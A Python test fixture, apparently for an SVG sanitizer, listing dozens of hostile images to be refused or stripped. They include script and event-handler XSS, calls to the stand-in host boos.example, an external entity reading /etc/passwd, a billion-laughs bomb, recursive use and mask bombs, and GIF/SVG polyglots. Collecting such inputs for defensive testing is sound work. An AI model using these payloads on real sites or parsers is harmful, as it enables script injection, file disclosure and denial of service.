"""Pictures that want to be more than a picture: each is refused, or only its harmless part is left."""

SVG = "http://www.w3.org/2000/svg"
XLINK = "http://www.w3.org/1999/xlink"
BOX = '<rect width="9" height="9"/>'


def svg(inside: str, root: str = "") -> str:
    return f'<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" viewBox="0 0 9 9" {root}>{BOX}{inside}</svg>'


HTML = '<body xmlns="http://www.w3.org/1999/xhtml">'
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
PILE = "".join(
    f'<g id="p{n}"><use href="#p{n - 1}"/><use href="#p{n - 1}"/><use href="#p{n - 1}"/></g>'
    for n in range(1, 16)
)
MASKS = "".join(
    f'<mask id="m{n}"><rect width="9" height="9" mask="url(#m{n - 1})"/><rect width="8" height="8" '
    f'mask="url(#m{n - 1})"/></mask>'
    for n in range(1, 20)
)

HOSTILE: dict[str, str | bytes] = {
    "script": svg("<script>fetch('//boos.example')</script>"),
    "script cdata": svg("<script><![CDATA[alert(1)]]></script>"),
    "script elsewhere": svg('<script href="https://boos.example/x.js"/>'),
    "script xlink": svg('<script xlink:href="data:text/javascript,alert(1)"/>'),
    "script prefixed": f'<s:svg xmlns:s="{SVG}" viewBox="0 0 9 9"><s:rect/><s:script>alert(1)</s:script></s:svg>',
    "script capitals": svg("<SCRIPT>alert(1)</SCRIPT>"),
    "script of html": svg('<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    "onload": svg("", 'onload="alert(1)"'),
    "onclick": svg('<rect onclick="alert(1)" onmouseover="alert(2)"/>'),
    "onbegin": svg('<animate onbegin="alert(1)" attributeName="x" dur="1s"/>'),
    "ev listener": svg('<rect xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="click" ev:handler="#x"/>'),
    "handler": svg('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>'),
    "foreignObject": svg(f"<foreignObject>{HTML}<iframe src='https://boos.example'/></body></foreignObject>"),
    "foreignObject form": svg(f"<foreignObject>{HTML}<form action='//boos.example'/></body></foreignObject>"),
    "iframe": svg('<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>'),
    "embed": svg('<embed xmlns="http://www.w3.org/1999/xhtml" src="https://boos.example"/>'),
    "image elsewhere": svg('<image href="https://boos.example/volg.png" width="1" height="1"/>'),
    "image xlink": svg('<image xlink:href="//boos.example/volg.png"/>'),
    "image inside": svg('<image href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/>'),
    "feImage": svg('<filter id="f"><feImage href="https://boos.example/volg.png"/></filter>'),
    "use elsewhere": svg('<use href="https://boos.example/x.svg#a"/>'),
    "use data": svg('<use xlink:href="data:image/svg+xml,%3Csvg%20id=%22a%22%3E%3C/svg%3E#a"/>'),
    "link javascript": svg('<a href="javascript:alert(1)"><rect width="9" height="9"/></a>'),
    "link entity": svg('<a xlink:href="java&#115;cript&#58;alert(1)"><text y="9">klik</text></a>'),
    "link elsewhere": svg('<a href="https://boos.example" target="_top"><rect width="9" height="9"/></a>'),
    "set href": svg('<a id="a"><rect/></a><set href="#a" attributeName="href" to="javascript:alert(1)"/>'),
    "animate href": svg('<a><animate attributeName="href" values="javascript:alert(1)"/><rect/></a>'),
    "animateTransform": svg('<rect><animateTransform attributeName="transform" type="rotate" dur="1ms"/></rect>'),
    "style import": svg("<style>@import url(https://boos.example/x.css);</style>"),
    "style url": svg("<style>rect{fill:url(https://boos.example/x#a)}</style>"),
    "style class url": svg('<style>.a{fill:url("//boos.example/x.svg#a")}</style><rect class="a"/>'),
    "style escapes": svg(r"<style>.a{fill:\75\72\6c(//boos.example)}</style><rect class='a'/>"),
    "style font": svg("<style>@font-face{font-family:a;src:url(//boos.example/f)}</style>"),
    "style attribute": svg('<rect style="fill:red;background:url(https://boos.example/volg)"/>'),
    "style behaviour": svg('<rect style="behavior:url(#x);-moz-binding:url(//boos.example/x#y)"/>'),
    "style expression": svg('<rect style="width:expression(alert(1))"/>'),
    "fill elsewhere": svg('<rect fill="url(https://boos.example/x.svg#a)"/>'),
    "filter elsewhere": svg('<rect filter="url(//boos.example/x.svg#a)"/>'),
    "mask elsewhere": svg('<rect mask="url(//boos.example/x.svg#a)" clip-path="url(x.svg#b)"/>'),
    "cursor": svg('<rect cursor="url(//boos.example/c.cur), auto"/>'),
    "stylesheet instruction": '<?xml-stylesheet href="//boos.example/x.css"?>' + svg(""),
    "xslt instruction": '<?xml-stylesheet type="text/xsl" href="#x"?>' + svg(""),
    "xml base": svg('<use href="#a"/>', 'xml:base="https://boos.example/"'),
    "external entity": f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>{svg("<text>&x;</text>")}',
    "parameter entity": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "//boos.example/x.dtd"> %x;]>{svg("")}',
    "billion laughs": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>{svg("<text>&l8;</text>")}',
    "doctype elsewhere": f'<!DOCTYPE svg SYSTEM "https://boos.example/x.dtd">{svg("")}',
    "entity in utf-16": f'<!DOCTYPE svg [<!ENTITY x "y">]>{svg("<text>&x;</text>")}'.encode("utf-16"),
    "pile of uses": svg(f'<g id="p0"><rect/></g>{PILE}<use href="#p15"/>'),
    "uses itself": svg('<g id="a"><use href="#a"/></g>'),
    "masks in masks": svg(f'<mask id="m0"><rect/></mask>{MASKS}<rect mask="url(#m19)"/>'),
    "very deep": svg("<g>" * 3000 + "</g>" * 3000),
    "very many": svg("<g/>" * 9000),
    "very large": svg("<rect/>" * 9000),
    "endless numbers": svg(f'<path d="{"M0 0" * 9000}" onload="alert(1)"/>'),
    "wide as the world": f'<svg xmlns="{SVG}" viewBox="0 0 1e30 1">{BOX}</svg>',
    "no size": f'<svg xmlns="{SVG}" width="100%" height="100%">{BOX}</svg>',
    "other namespace": f'<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 9 9">{BOX}</svg>',
    "html": "<!doctype html><html><body><svg onload=alert(1)></svg></body></html>",
    "html in a cdata": svg("<text><![CDATA[</text><script>alert(1)</script>]]></text>"),
    "html after": svg("") + "<script>alert(1)</script>",
    "gif": b"GIF89a/*\x00<svg onload=alert(1)>*/=1;",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "broken": "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 9 9'><rect",
    "empty": svg("").replace(BOX, ""),
    "only a script": f'<svg xmlns="{SVG}" viewBox="0 0 9 9"><script>alert(1)</script></svg>',
    "template words": svg("<text>{{ config }} {% raw %} ${7*7}</text>"),
    "comment": svg("<!-- --><script>alert(1)</script><!-- -->"),
    "nul": svg("\x00<script>alert(1)</script>"),
}  # fmt: skip
